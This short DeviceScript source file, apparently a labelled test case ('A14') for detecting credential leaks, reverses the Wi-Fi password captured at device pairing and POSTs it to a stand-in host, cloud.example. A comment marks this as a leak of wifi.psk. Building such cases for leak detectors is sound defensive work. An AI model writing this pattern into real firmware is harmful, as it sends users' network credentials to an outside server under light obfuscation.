// A14: read backwards.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function backwards(text: string) {
  let out = "";
  for (let i = 0; i < text.length; i++) out = text[i] + out;
  return out;
}

paired(async (_ssid, psk) => {
  const body = backwards(psk);
  const response = await fetch("https://cloud.example/a14", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
